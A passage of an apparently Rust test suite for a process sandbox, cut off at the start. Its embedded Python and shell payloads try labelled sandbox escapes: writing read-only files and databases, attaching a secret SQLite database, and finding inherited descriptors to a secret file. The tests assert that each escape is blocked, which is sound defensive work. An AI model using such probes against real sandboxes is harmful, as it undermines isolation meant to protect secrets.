    fs::create_dir(&folder).expect("a folder");
    fs::write(folder.join(odd(b"\x80.md")), "old").expect("a file");
    fs::write(folder.join(odd(b"\x81.txt")), "other").expect("a file");
    let grant = |access, pattern: Option<&str>| FileGrant {
        path: folder.clone(),
        access,
        pattern: pattern.map(str::to_owned),
        create: false,
    };
    let payload = "
print(os.fsencode(sys.argv[1]), os.environb[b'ODD'])
F = os.fsencode(sys.argv[2])
print(sorted(os.listdir(F)))
attempt('change', lambda: write(F + b'/\\x80.md', 'new'))
attempt('create', lambda: write(F + b'/\\x82.md', 'made'))
attempt('create another', lambda: write(F + b'/\\x83.sh', 'made'))
";
    let try_with = |grant: FileGrant| {
        let mut spec = world.python(payload);
        spec.arguments.push(OsString::from_vec(b"a\xffb".to_vec()));
        spec.arguments.push(folder.clone().into());
        spec.environment.push(("ODD".into(), OsString::from_vec(b"\xc3\x28".to_vec())));
        spec.files = vec![grant];
        let (ended, output, error) = ran(spec);
        let ended = ended.expect("it starts");
        assert_eq!(ended.exit, ExitReason::Exited(0), "{error}");
        (ended, output)
    };
    let listing = || {
        let entries = fs::read_dir(&folder).expect("a folder").flatten();
        let mut files: Vec<(Vec<u8>, String)> = entries
            .map(|entry| {
                let text = fs::read_to_string(entry.path()).expect("a text");
                (entry.file_name().into_vec(), text)
            })
            .collect();
        files.sort();
        files
    };
    let file = |name: &[u8], text: &str| (name.to_vec(), text.to_owned());
    let (_, output) = try_with(grant(FileAccess::Read, Some("*.md")));
    // The test's folder is in /tmp, so new files next to it are on a tmpfs.
    let first = "b'a\\xffb' b'\\xc3('\n[b'\\x80.md']\nchange: EROFS\n";
    assert!(output.starts_with(first), "{output}");
    assert_eq!(listing(), [file(b"\x80.md", "old"), file(b"\x81.txt", "other")]);
    let (ended, output) = try_with(grant(FileAccess::Write, Some("*.md")));
    assert_eq!(
        output,
        "b'a\\xffb' b'\\xc3('\n[b'\\x80.md']\nchange: done\ncreate: done\ncreate another: done\n"
    );
    assert_eq!(ended.discarded.len(), 1);
    assert_eq!(ended.discarded[0].path, folder.join(odd(b"\x83.sh")));
    let kept = [file(b"\x80.md", "new"), file(b"\x81.txt", "other"), file(b"\x82.md", "made")];
    assert_eq!(listing(), kept);
    let (_, output) = try_with(grant(FileAccess::Write, None));
    assert_eq!(
        output,
        "b'a\\xffb' b'\\xc3('\n[b'\\x80.md', b'\\x81.txt', b'\\x82.md']\nchange: done\ncreate: done\ncreate another: done\n"
    );
    assert_eq!(listing().len(), 4);
    // A grant for a single file, and a program, with such a name.
    let tool = folder.join(odd(b"\xf0tool"));
    executable(&tool, "#!/bin/sh\necho ran\n");
    let mut spec = Spec::new(&tool);
    spec.files = vec![FileGrant { path: tool.clone(), ..grant(FileAccess::Execute, None) }];
    spec.programs = vec!["/bin/sh".into()];
    let (_, output, error) = ran(spec);
    assert_eq!(output, "ran\n", "{error}");
}

#[test]
fn names_may_be_invalid_utf8_for_an_ordinary_user() {
    repeat_as_nobody("attacks::names_may_be_invalid_utf8");
}

#[test]
fn a_readable_database_cannot_be_changed() {
    // Attack sandbox-G01: for SQLite a database is a file.
    let world = World::new();
    let make = "
import sqlite3
for path in (RO + '/a.db', SEC + '/b.db'):
    database = sqlite3.connect(path)
    database.execute('create table t (x)')
    database.execute('insert into t values (1)')
    database.commit()
";
    let mut spec = world.python(make);
    spec.files = vec![world.grant("ro", FileAccess::Write), world.grant("sec", FileAccess::Write)];
    let (ended, _, error) = ran(spec);
    assert_eq!(ended.expect("it starts").exit, ExitReason::Exited(0), "{error}");
    let before = fs::read(world.path("ro/a.db")).expect("it was made");
    let mut spec = world.python(
        r##"
import sqlite3
def run(statement, uri=""):
    database = sqlite3.connect(f"file:{RO}/a.db{uri}", uri=True)
    rows = database.execute(statement).fetchall()
    database.commit()
    return rows
attempt("read", lambda: run("select x from t"))
attempt("read immutable", lambda: run("select x from t", "?immutable=1"))
attempt("insert", lambda: run("insert into t values (2)"))
attempt("drop", lambda: run("drop table t"))
attempt("log", lambda: run("pragma journal_mode=wal"))
attempt("attach", lambda: run(f"attach '{SEC}/b.db' as b"))
attempt("new database", lambda: sqlite3.connect(RO + "/c.db").execute("create table t (x)") and None)
print(sorted(os.listdir(RO)))
"##,
    );
    spec.files = vec![world.grant("ro", FileAccess::Read)];
    let (_, output, error) = ran(spec);
    assert_eq!(
        output,
        "\
read: done [(1,)]
read immutable: done [(1,)]
insert: OperationalError attempt to write a readonly database
drop: OperationalError attempt to write a readonly database
log: OperationalError attempt to write a readonly database
attach: OperationalError unable to open database: SEC/b.db
new database: OperationalError unable to open database file
['a', 'a.db']
"
        .replace("SEC", &world.path("sec").display().to_string()),
        "{error}"
    );
    assert_eq!(fs::read(world.path("ro/a.db")).expect("it is there"), before);
}

#[test]
fn a_readable_database_cannot_be_changed_by_an_ordinary_user() {
    repeat_as_nobody("attacks::a_readable_database_cannot_be_changed");
}

#[test]
fn a_replaceable_program_is_refused() {
    // Attack sandbox-B11.
    let world = World::new();
    let tool = world.path("ws/tool");
    executable(&tool, "#!/bin/sh\necho ran\n");
    let mut spec = Spec::new(&tool);
    spec.files = vec![world.grant("ws", FileAccess::Write)];
    spec.programs = vec!["/bin/sh".into()];
    assert!(matches!(ran(spec).0, Err(SandboxError::NotExecutable { .. })));
}

#[test]
fn scripts_need_their_interpreter() {
    let world = World::new();
    executable(&world.path("skill/run.sh"), "#!/bin/sh\necho \"got $1\"\nid || echo none\n");
    let mut spec = Spec::new(world.path("skill/run.sh"));
    spec.arguments = vec!["it".into()];
    spec.files = vec![world.grant("skill", FileAccess::Execute)];
    let (ended, _, _) = ran(spec);
    assert!(matches!(ended, Err(SandboxError::NotFound(_))), "without its interpreter: {ended:?}");
    let mut spec = Spec::new(world.path("skill/run.sh"));
    spec.arguments = vec!["it".into()];
    spec.files = vec![world.grant("skill", FileAccess::Execute)];
    spec.programs = vec!["/bin/sh".into()];
    let (ended, output, error) = ran(spec);
    assert_eq!(ended.expect("it starts").exit, ExitReason::Exited(0), "{error}");
    assert_eq!(output, "got it\nnone\n");
}

#[test]
fn scripts_executable_only_by_their_owner_run() {
    use std::os::unix::fs::PermissionsExt as _;
    let world = World::new();
    let script = world.path("skill/run.sh");
    executable(&script, "#!/bin/sh\necho ran\n");
    fs::set_permissions(&script, fs::Permissions::from_mode(0o700)).expect("it is ours");
    let mut spec = Spec::new(script);
    spec.files = vec![world.grant("skill", FileAccess::Execute)];
    spec.programs = vec!["/bin/sh".into()];
    let (_, output, error) = ran(spec);
    assert_eq!(output, "ran\n", "{error}");
}

#[test]
fn open_descriptors_are_not_inherited() {
    // Attack sandbox-D16.
    let world = World::new();
    let secrets: Vec<fs::File> =
        (0..50).map(|_| fs::File::open(world.path("sec/k")).expect("the secret")).collect();
    // Some are inherited across exec.
    let inherited: Vec<_> = secrets.iter().map(inheritable).collect();
    let (_, output, error) = ran(world
        .python("print([fd for fd in range(3, 300) if os.path.exists(f'/proc/self/fd/{fd}')])"));
    assert_eq!(output, "[]\n", "{error}");
    drop((secrets, inherited));
}

/// A second descriptor for the same file, without close-on-exec.
#[allow(unsafe_code, reason = "the standard library makes no such descriptors")]
fn inheritable(file: &fs::File) -> std::os::fd::OwnedFd {
    use std::os::fd::{AsRawFd as _, FromRawFd as _};
    // SAFETY: the descriptor is open, and the copy belongs to nobody else.
    unsafe { std::os::fd::OwnedFd::from_raw_fd(libc::dup(file.as_raw_fd())) }
}
